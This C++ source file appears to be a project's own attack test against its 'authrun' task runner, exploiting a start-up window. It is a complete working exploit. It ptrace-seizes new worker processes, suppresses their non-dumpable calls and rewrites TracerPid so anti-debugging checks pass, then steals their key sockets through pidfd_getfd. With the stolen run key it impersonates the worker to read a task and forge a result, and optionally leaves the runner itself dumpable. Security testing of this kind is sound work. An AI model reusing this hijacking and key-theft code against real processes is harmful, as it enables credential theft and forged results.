// authrun-hijack: the start-up window attack of issue 27, against the real runner (tests/runner/engine/
// e2e_window.cpp, scripts/demo-security). A process of the same user, knowing nothing of the run:
//  1. watches for new processes of its user and PTRACE_SEIZEs each the moment its execve makes it dumpable
//     (seizing is retried from the moment the pid appears, so it wins before the dynamic loader is done);
//  2. on an authrun-worker, traces its system calls: skips its prctl(PR_SET_DUMPABLE, 0) calls (it stays
//     dumpable and attached), rewrites "TracerPid: N" to 0 in what it reads from /proc/self/status, copies the
//     fresh socket pair it makes for its key (pidfd_getfd) and its fds 0 and 1;
//  3. lets the worker itself send its key request (so pid, uid and the passed socket are all genuine); with
//     --stop-runner, SIGSTOPs the runner first; then makes the worker non-dumpable (an injected prctl), leaves
//     it stopped (SIGSTOP) and detaches, and continues the runner, whose checks now all pass;
//  4. reads the key from its copy of the socket, takes the worker's place on the runner's pipes, completes the
//     handshake, reads a task and sends a forged "ok" result.
// With --name authrun it does steps 1 and 2 to the runner itself and detaches once the runner has looked at
// its TracerPid: the runner then runs dumpable, its memory (every key it makes) and fds open to the user.
// x86_64 only. Run as root it first drops to uid/gid --uid (default 65534): the attack is a same-user one.
#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sodium.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "protocol/channel.hpp"
#include "protocol/fd.hpp"
#include "protocol/run_key.hpp"

namespace authrun::attacks {
namespace {

using namespace protocol;
using namespace std::chrono_literals;

constexpr char k_usage[] = R"(usage: authrun-hijack [--uid N] [--stop-runner] [--name COMM] [--stop-file PATH] SECONDS

  For SECONDS (or until PATH exists), hijack every new process of this user named COMM (default
  authrun-worker) from its birth, as described at the top of tests/attacks/birth_hijack.cpp. Reports
  "RESULT mode=hijack seen=S seized=Z asked=A keys_obtained=K tasks_read=T forged=F left_dumpable=D"
  (D: runners, with --name authrun, left dumpable after their own checks).
)";

void say(const std::string& text) { std::fprintf(stderr, "authrun-hijack[%d]: %s\n", static_cast<int>(::getpid()), text.c_str()); }

int pidfd_open(pid_t pid) { return static_cast<int>(::syscall(SYS_pidfd_open, pid, 0)); }
int pidfd_getfd(int pidfd, int fd) { return static_cast<int>(::syscall(SYS_pidfd_getfd, pidfd, fd, 0)); }

std::string read_text(const std::string& path) {
  Fd fd(::open(path.c_str(), O_RDONLY | O_CLOEXEC));
  char buf[512] = {};
  const ssize_t n = fd.valid() ? ::read(fd.get(), buf, sizeof buf - 1) : -1;
  return n > 0 ? std::string(buf, static_cast<std::size_t>(n)) : std::string();
}

std::string comm_of(pid_t pid) {
  std::string c = read_text("/proc/" + std::to_string(pid) + "/comm");
  if (!c.empty() && c.back() == '\n') c.pop_back();
  return c;
}

pid_t parent_of(pid_t pid) {
  const std::string stat = read_text("/proc/" + std::to_string(pid) + "/stat");
  const auto close = stat.rfind(')');
  if (close == std::string::npos) return 0;
  char state = 0;
  int ppid = 0;
  return std::sscanf(stat.c_str() + close + 1, " %c %d", &state, &ppid) == 2 ? ppid : 0;
}

// Copies `count` bytes of the tracee's memory at `addr`.
std::string peek(pid_t pid, unsigned long long addr, std::size_t count) {
  std::string out(count, '\0');
  iovec local{out.data(), count}, remote{reinterpret_cast<void*>(addr), count};
  const ssize_t n = ::process_vm_readv(pid, &local, 1, &remote, 1, 0);
  out.resize(n > 0 ? static_cast<std::size_t>(n) : 0);
  return out;
}

bool poke(pid_t pid, unsigned long long addr, const std::string& bytes) {
  iovec local{const_cast<char*>(bytes.data()), bytes.size()}, remote{reinterpret_cast<void*>(addr), bytes.size()};
  return ::process_vm_writev(pid, &local, 1, &remote, 1, 0) == static_cast<ssize_t>(bytes.size());
}

struct Tally {
  int seen = 0, seized = 0, asked = 0, keys = 0, tasks = 0, forged = 0, left_dumpable = 0;
};

// Waits for the tracee's next stop; false if it is gone.
bool next_stop(pid_t pid, int& status) {
  for (;;) {
    const pid_t r = ::waitpid(pid, &status, __WALL);
    if (r == pid) return WIFSTOPPED(status);
    if (r < 0 && errno != EINTR) return false;
  }
}

// Plays the worker on the runner's pipes with `key`: handshake, then one task read and a forged result.
void impersonate(Fd in, Fd out, const RunKey& key, Tally& tally) {
  HandshakeConfig config{Role::worker, {ChannelMode::encrypted, ChannelMode::authenticated}, 1 << 20};
  Channel channel(std::move(in), std::move(out), key, config);
  if (auto hs = channel.handshake(Clock::now() + 5s); !hs) return say("impostor handshake failed: " + hs.error().message);
  auto msg = channel.receive(Clock::now() + 5s);
  if (!msg) return say("no task: " + msg.error().message);
  auto* task = std::get_if<Task>(&*msg);
  if (!task) return say("got something else than a task");
  ++tally.tasks;
  say("impostor read task " + std::to_string(task->id) + ": " + task->fn + " " + task->args.dump());
  if (channel.send(TaskResult(task->id, true, json("forged by authrun-hijack")), Clock::now() + 5s)) ++tally.forged;
}

// Runs one seized worker through steps 2-4.
void hijack(pid_t pid, bool stopped, bool stop_runner, bool is_runner, Tally& tally) {
  Fd pidfd(pidfd_open(pid));
  if (!pidfd.valid()) return;
  Fd pipe_in(pidfd_getfd(pidfd.get(), 0)), pipe_out(pidfd_getfd(pidfd.get(), 1));
  const pid_t runner = parent_of(pid);
  int status = 0;
  int status_fd = -1;                 // the fd of its /proc/self/status, while open
  unsigned long long read_buf = 0;    // the buffer of a read() of it in progress
  std::vector<Fd> pair;               // copies of the fresh socket pair (the key comes into one end)
  unsigned long long pair_addr = 0;
  int sig = 0;
  bool runner_stopped = false;
  std::optional<bool> next_is_entry;
  if (!stopped) {
    ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
    if (!next_stop(pid, status)) return;
  }
  ::ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr);
  for (;;) {
    if (!next_stop(pid, status)) return say("worker " + std::to_string(pid) + " is gone");
    const int stop = WSTOPSIG(status);
    if (stop != (SIGTRAP | 0x80)) {
      // A signal or an event stop: pass a signal on, swallow the rest.
      sig = (status >> 16) == 0 && stop != SIGTRAP ? stop : 0;
      ::ptrace(PTRACE_SYSCALL, pid, nullptr, reinterpret_cast<void*>(static_cast<long>(sig)));
      continue;
    }
    user_regs_struct regs{};
    ::ptrace(PTRACE_GETREGS, pid, nullptr, &regs);
    // Entry and exit stops alternate; the first one is told by rax (-ENOSYS on entry), since a skipped call
    // also leaves -ENOSYS at its exit.
    const bool entry = next_is_entry.value_or(static_cast<long long>(regs.rax) == -ENOSYS);
    next_is_entry = !entry;
    const long nr = static_cast<long>(regs.orig_rax);
    if (entry && nr == SYS_prctl && regs.rdi == PR_SET_DUMPABLE) {
      regs.orig_rax = static_cast<unsigned long long>(-1);  // skipped: it stays dumpable (and ours)
      ::ptrace(PTRACE_SETREGS, pid, nullptr, &regs);
    } else if (!entry && nr == -1) {
      regs.rax = 0;  // ... and believes it worked
      ::ptrace(PTRACE_SETREGS, pid, nullptr, &regs);
    } else if (!entry && nr == SYS_openat && peek(pid, regs.rsi, 18) == std::string("/proc/self/status", 18)) {
      status_fd = static_cast<int>(regs.rax);
    } else if (entry && nr == SYS_read && static_cast<int>(regs.rdi) == status_fd && status_fd >= 0) {
      read_buf = regs.rsi;
    } else if (!entry && nr == SYS_read && read_buf != 0 && static_cast<long long>(regs.rax) > 0) {
      std::string text = peek(pid, read_buf, static_cast<std::size_t>(regs.rax));
      const auto at = text.find("TracerPid:\t");
      if (at != std::string::npos) {
        std::size_t i = at + 11;
        bool first = true;
        for (; i < text.size() && text[i] >= '0' && text[i] <= '9'; ++i) text[i] = first ? '0' : ' ', first = false;
        poke(pid, read_buf, text);
        if (is_runner) {
          // The runner looked: let it go, dumpable for the rest of its life.
          ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
          struct stat st {};
          if (::stat(("/proc/" + std::to_string(pid) + "/status").c_str(), &st) == 0 && st.st_uid == ::getuid() &&
              Fd(pidfd_getfd(pidfd.get(), 0)).valid()) {
            ++tally.left_dumpable;
            say("runner " + std::to_string(pid) + " left dumpable: its memory and fds are ours");
          }
          return;
        }
      }
      read_buf = 0;
    } else if (!entry && nr == SYS_close && static_cast<int>(regs.rdi) == status_fd) {
      status_fd = -1;
    } else if (entry && nr == SYS_socketpair) {
      pair_addr = regs.r10;
    } else if (!entry && nr == SYS_socketpair && static_cast<long long>(regs.rax) == 0 && pair.empty()) {
      const std::string fds = peek(pid, pair_addr, 2 * sizeof(int));
      int sv[2] = {-1, -1};
      if (fds.size() == sizeof sv) std::memcpy(sv, fds.data(), sizeof sv);
      for (int fd : sv) pair.emplace_back(pidfd_getfd(pidfd.get(), fd));
    } else if (entry && nr == SYS_sendmsg && static_cast<int>(regs.rdi) == 3) {
      ++tally.asked;
      if (stop_runner && runner > 1) runner_stopped = ::kill(runner, SIGSTOP) == 0;
    } else if (!entry && nr == SYS_sendmsg && static_cast<int>(regs.rdi) == 3) {
      // The request is out. Make it non-dumpable now (re-run `syscall` as prctl), then leave it stopped.
      const user_regs_struct saved = regs;
      regs.rax = SYS_prctl;
      regs.orig_rax = SYS_prctl;
      regs.rdi = PR_SET_DUMPABLE;
      regs.rsi = 0;
      regs.rip -= 2;
      ::ptrace(PTRACE_SETREGS, pid, nullptr, &regs);
      ::ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr);
      if (!next_stop(pid, status)) return;
      ::ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr);
      if (!next_stop(pid, status)) return;
      ::ptrace(PTRACE_SETREGS, pid, nullptr, &saved);
      ::ptrace(PTRACE_DETACH, pid, nullptr, reinterpret_cast<void*>(static_cast<long>(SIGSTOP)));
      if (runner_stopped) ::kill(runner, SIGCONT);
      break;
    }
    ::ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr);
  }
  // The key comes into the end the worker would have read (whichever of the two it is); a runner that
  // refuses the request kills the worker instead (its pidfd turns readable), and the next run is watched.
  std::array<std::uint8_t, k_run_key_size> key{};
  std::size_t got = 0;
  const auto until = Clock::now() + 3s;
  while (got < key.size() && Clock::now() < until && pair.size() == 2) {
    pollfd p[3] = {{pair[0].get(), POLLIN, 0}, {pair[1].get(), POLLIN, 0}, {pidfd.get(), POLLIN, 0}};
    if (::poll(p, 3, 100) <= 0) continue;
    if (!(p[0].revents & POLLIN) && !(p[1].revents & POLLIN)) break;  // the worker died, no key came
    const int from = (p[0].revents & POLLIN) ? 0 : 1;
    const ssize_t n = ::recv(pair[std::size_t(from)].get(), key.data() + got, key.size() - got, MSG_DONTWAIT);
    if (n <= 0) break;
    got += static_cast<std::size_t>(n);
  }
  if (got == key.size()) {
    ++tally.keys;
    say("key of worker " + std::to_string(pid) + " obtained");
    impersonate(std::move(pipe_in), std::move(pipe_out),
                RunKey::from_bytes(std::span<const std::uint8_t, k_run_key_size>(key.data(), key.size())), tally);
  } else {
    say("worker " + std::to_string(pid) + ": no key came (the runner refused its request)");
  }
  ::sodium_memzero(key.data(), key.size());
  ::kill(pid, SIGKILL);
}

int run(std::vector<std::string> args) {
  uid_t uid = 65534;
  bool stop_runner = false;
  std::string name = "authrun-worker";
  std::string stop_file;  // the caller's runs are over once it exists
  while (!args.empty() && args[0].rfind("--", 0) == 0 && args.size() >= 2) {
    if (args[0] == "--uid") uid = static_cast<uid_t>(std::atoi(args[1].c_str())), args.erase(args.begin(), args.begin() + 2);
    else if (args[0] == "--name") name = args[1], args.erase(args.begin(), args.begin() + 2);
    else if (args[0] == "--stop-runner") stop_runner = true, args.erase(args.begin());
    else if (args[0] == "--stop-file") stop_file = args[1], args.erase(args.begin(), args.begin() + 2);
    else break;
  }
  if (args.size() != 1) return std::fputs(k_usage, stderr), 2;
  if (::geteuid() == 0 &&
      (::setgroups(0, nullptr) != 0 || ::setresgid(uid, uid, uid) != 0 || ::setresuid(uid, uid, uid) != 0)) {
    return say(std::string("cannot drop root: ") + std::strerror(errno)), 2;
  }
  std::signal(SIGPIPE, SIG_IGN);
  Tally tally;
  const auto until = Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(std::atof(args[0].c_str())));
  // Pids wrap at pid_max: a new process is one whose pid was not there before. Ours is the newest so far.
  std::set<pid_t> known;
  if (DIR* d = ::opendir("/proc")) {
    while (dirent* e = ::readdir(d)) known.insert(std::atoi(e->d_name));
    ::closedir(d);
  }
  const pid_t pid_max = std::max(1024, std::atoi(read_text("/proc/sys/kernel/pid_max").c_str()));
  pid_t last = ::getpid();
  // Tries to seize new process `pid` (a pid above every one seen before) and, if it is the target, hijacks it.
  auto consider = [&](pid_t pid) {
    // Ours (the owner of /proc/PID is root while a process is non-dumpable: the Uid line says it), and a thread
    // group's leader (a new thread has a pid too).
    const std::string status = read_text("/proc/" + std::to_string(pid) + "/status");
    const std::string uid = std::to_string(::getuid());
    if (status.find("\nUid:\t" + uid + "\t") == std::string::npos) return;
    if (status.find("\nTgid:\t" + std::to_string(pid) + "\n") == std::string::npos) return;
    const auto give_up = Clock::now() + 50ms;
    const long options = PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC;
    bool seized = false;
    while (!seized && Clock::now() < give_up) seized = ::ptrace(PTRACE_SEIZE, pid, nullptr, reinterpret_cast<void*>(options)) == 0;
    bool stopped = false;
    if (seized && comm_of(pid) != name) {
      // Seized before its execve (a shell's child about to run the target): held through the exec, which
      // stops it for us; anything else is let go after a moment.
      const std::string now = comm_of(pid);
      const bool shell = now == "sh" || now == "dash" || now == "bash";  // a wrapper: it execs the target later
      const auto wait_exec = Clock::now() + (shell ? 1000ms : 20ms);
      int status = 0;
      while (!stopped && Clock::now() < wait_exec) {
        const pid_t r = ::waitpid(pid, &status, WNOHANG | __WALL);
        if (r != pid) {
          if (r < 0) break;
          continue;
        }
        if (!WIFSTOPPED(status)) break;
        if ((status >> 8) == (SIGTRAP | (PTRACE_EVENT_EXEC << 8))) {
          stopped = true;
          break;
        }
        const int sig = (status >> 16) == 0 ? WSTOPSIG(status) : 0;
        ::ptrace(PTRACE_CONT, pid, nullptr, reinterpret_cast<void*>(static_cast<long>(sig)));
      }
    }
    if (comm_of(pid) != name) {
      if (seized) {
        // Not a target: let it go (a seized tracee must be stopped to be detached).
        int status = 0;
        if (!stopped) ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
        if (stopped || next_stop(pid, status)) ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
      }
      return;
    }
    ++tally.seen;
    if (!seized) return;
    ++tally.seized;
    hijack(pid, stopped, stop_runner, name == "authrun", tally);
  };
  auto rescan = Clock::now();
  while (Clock::now() < until) {
    // New pids come in order: the next few are probed as fast as we can; every few milliseconds /proc is read
    // whole, for those that came while we were busy or past the probe (other users' processes take pids too).
    bool found = false;
    for (pid_t step = 1; step <= 16 && !found; ++step) {
      const pid_t pid = (last + step) % pid_max;
      if (known.count(pid) || ::access(("/proc/" + std::to_string(pid)).c_str(), F_OK) != 0) continue;
      found = true;
      last = pid;
      known.insert(pid);
      consider(pid);
    }
    if (found || Clock::now() < rescan) continue;
    rescan = Clock::now() + 2ms;
    if (!stop_file.empty() && ::access(stop_file.c_str(), F_OK) == 0) break;
    std::vector<pid_t> fresh;
    if (DIR* d = ::opendir("/proc")) {
      while (dirent* e = ::readdir(d)) {
        const pid_t pid = std::atoi(e->d_name);
        if (pid > 0 && known.insert(pid).second) fresh.push_back(pid);
      }
      ::closedir(d);
    }
    std::sort(fresh.begin(), fresh.end());
    for (pid_t pid : fresh) {
      last = pid;
      consider(pid);
    }
  }
  std::fprintf(stderr, "authrun-hijack[%d] RESULT mode=hijack seen=%d seized=%d asked=%d keys_obtained=%d tasks_read=%d forged=%d left_dumpable=%d\n",
               static_cast<int>(::getpid()), tally.seen, tally.seized, tally.asked, tally.keys, tally.tasks, tally.forged, tally.left_dumpable);
  return 0;
}

}  // namespace
}  // namespace authrun::attacks

int main(int argc, char** argv) {
  if (::sodium_init() < 0) return 2;
  return authrun::attacks::run(std::vector<std::string>(argv + 1, argv + argc));
}
